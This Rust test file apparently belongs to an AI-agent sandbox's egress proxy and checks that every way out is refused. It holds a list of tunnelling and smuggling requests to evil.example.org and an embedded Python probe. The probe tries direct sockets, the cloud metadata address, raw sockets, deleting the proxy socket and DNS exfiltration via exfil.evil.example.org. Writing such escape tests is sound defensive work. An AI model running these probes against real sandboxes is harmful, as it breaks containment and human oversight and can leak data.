//! Other ways out.

use crate::attacks::stage::{Case, Stage};
use crate::proxy::world::ALLOWLIST;

const REQUESTS: [(&str, &str); 14] = [
    (
        "CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n",
        "CONNECT is never let through",
    ),
    ("CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com\r\n\r\n", "CONNECT is never let through"),
    ("CONNECT / HTTP/1.1\r\nHost: api.example.com\r\n\r\n", "BLOCKED"),
    ("TRACE / HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n", "TRACE is never let through"),
    ("TRACK / HTTP/1.1\r\nHost: evil.example.org\r\nConnection: close\r\n\r\n", "two hosts"),
    ("OPTIONS * HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n", "BLOCKED"),
    (
        "OPTIONS * HTTP/1.1\r\nHost: api.example.com\r\nMax-Forwards: 0\r\nConnection: close\r\n\r\n",
        "BLOCKED",
    ),
    ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "not a well-formed"),
    ("EHLO evil.example.org\r\n\r\n", "not a well-formed"),
    ("SSH-2.0-OpenSSH_9.2\r\n\r\n", "not a well-formed"),
    ("\x05\x01\0\r\n\r\n", "not a well-formed"),
    ("\x04\x01\0\x50\x7f\0\0\x01\0\r\n\r\n", "not a well-formed"),
    (
        "PROXY TCP4 192.0.2.1 192.0.2.2 1 443\r\nGET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "not a well-formed",
    ),
    ("connect evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n", "BLOCKED"),
];

/// To servers of its own nobody may ask, whatever the protocol that is offered instead.
const UPGRADES: [&str; 5] = ["h2c", "websocket", "TLS/1.3", "connect-udp", "websocket, h2c"];

#[test]
fn no_method_no_protocol_and_no_line_to_the_proxy_is_another_way_out() {
    let stage = Stage::new(ALLOWLIST, Vec::new());
    let mut cases: Vec<Case> =
        REQUESTS.iter().map(|(send, log)| Case::tls("api.example.com", send, log)).collect();
    cases.extend(UPGRADES.map(|protocol| {
        let head = format!(
            "GET / HTTP/1.1\r\nHost: evil.example.org\r\nUpgrade: {protocol}\r\nConnection: Upgrade, HTTP2-Settings\r\n\
             HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
             Sec-WebSocket-Version: 13\r\n\r\n"
        );
        // Whoever upgrades says nothing more in HTTP: the case ends here.
        Case::tls("evil.example.org", &head.replace("Upgrade, ", "close, Upgrade, "), "no rule names this host")
    }));
    // RFC 8441 and RFC 9298: a stream of HTTP/2 that becomes a tunnel.
    let start = [(":method", "CONNECT"), (":authority", "api.example.com:443")];
    let open = [(":scheme", "https"), (":path", "/"), (":protocol", "websocket")];
    cases.push(Case::h2("api.example.com", &start, "CONNECT is never let through"));
    cases.push(Case::h2("api.example.com", &[&start[..], &open].concat(), "").silent());
    cases.extend([
        Case::no_tls("GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n", "no TLS"),
        Case::no_tls("\x16\x03\x01\x40\x01\x01", "no TLS"),
        Case::no_tls("\0", "no TLS"),
        Case::plain("CONNECT evil.example.org:80 HTTP/1.1\r\nHost: evil.example.org:80\r\n\r\n", "CONNECT"),
        Case::plain("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0", "not a well-formed"),
    ]);
    // What the socket takes for a first line is what the init would say, and nothing else.
    let head = "GET / HTTP/1.1\r\nHost: plain.example.com\r\n\r\n";
    for first in
        ["22\n", "8080\n", "\n", "443", "443 \n", "0443\n", "80\r\n", "https\n", "control \n", "\0\n"]
    {
        cases.push(Case::socket(&format!("{first}{head}")));
    }
    cases.push(Case::socket(&"9".repeat(70_000)));
    stage.refused(&cases);
    assert!(stage.world.proxy.is_some());
}

/// What a container has beside the relay, each tried by its kind; prints what is open.
const PROBE: &str = r#"
import os, socket
def tried(name, work):
    try:
        print(name, work())
    except OSError:
        print(name, "closed")
def reach(family, kind, where):
    with socket.socket(family, kind) as out:
        out.settimeout(5)
        out.connect(where)
        out.send(b"out")
        return out.recv(100)
for where in ["192.0.2.1", "169.254.169.254", "10.0.2.2", "127.0.0.2"]:
    tried("tcp", lambda: reach(socket.AF_INET, socket.SOCK_STREAM, (where, 443 if where != "127.0.0.2" else 4443)))
    tried("udp", lambda: reach(socket.AF_INET, socket.SOCK_DGRAM, (where, 443)))
for where in ["2001:db8::1", "fe80::1%lo", "::ffff:192.0.2.1", "64:ff9b::c000:201"]:
    tried("ipv6", lambda: reach(socket.AF_INET6, socket.SOCK_STREAM, (where, 443)))
tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
tried("abstract", lambda: reach(socket.AF_UNIX, socket.SOCK_STREAM, "\0/run/dbus"))
tried("remove", lambda: os.remove("/run/airut/proxy.sock"))
tried("replace", lambda: os.rename("/tmp", "/run/airut/other"))
print("files", *sorted(os.listdir("/run/airut")))
def question(name, kind, tcp):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    asked = b"\0\7\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + kind.to_bytes(2, "big") + b"\0\1"
    out = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    out.settimeout(10)
    out.connect(("127.0.0.1", 53))
    out.send(len(asked).to_bytes(2, "big") + asked if tcp else asked)
    answer = out.recv(2000)[2 if tcp else 0:]
    return answer[7] and "127.0.0.1" if answer[-4:] == b"\x7f\0\0\1" else "nothing"
for name, kind in [("exfil.evil.example.org", 1), ("exfil.evil.example.org", 16), ("api.example.com", 28), ("api.example.com", 255), ("x" * 63 + ".evil.example.org", 5)]:
    tried("dns", lambda: question(name, kind, False))
tried("dns tcp", lambda: question("exfil.evil.example.org", 1, True))
"#;

#[test]
fn no_address_no_resolver_and_no_file_of_the_sandbox_is_another_way_out() {
    let stage = Stage::new(ALLOWLIST, Vec::new());
    let told = stage.world.inside_with(&["python3", "-c", PROBE], "");
    for kind in ["tcp", "udp", "ipv6", "raw", "packet", "abstract", "remove", "replace"] {
        let mut lines = told.lines().filter(|line| line.starts_with(&format!("{kind} ")));
        assert!(
            lines.clone().next().is_some() && lines.all(|line| line.ends_with(" closed")),
            "{kind}: {told}"
        );
    }
    // One session's files and no other's.
    assert!(told.contains("files ca.pem hosts init proxy.sock resolv.conf\n"), "{told}");
    assert!(told.contains("dns 127.0.0.1\ndns nothing\ndns nothing\ndns nothing\ndns nothing\n"), "{told}");
    // Every name that was asked for is in the log, and none was asked of the world.
    let log = stage.world.log_with(" DNS TYPE16 exfil.evil.example.org ");
    assert!(log.contains(" DNS A exfil.evil.example.org "), "{log}");
    assert_eq!(stage.lookups(), [""; 0]);
    assert_eq!(stage.world.server.connections(), 0);
    stage.decoys_saw_nobody();
}
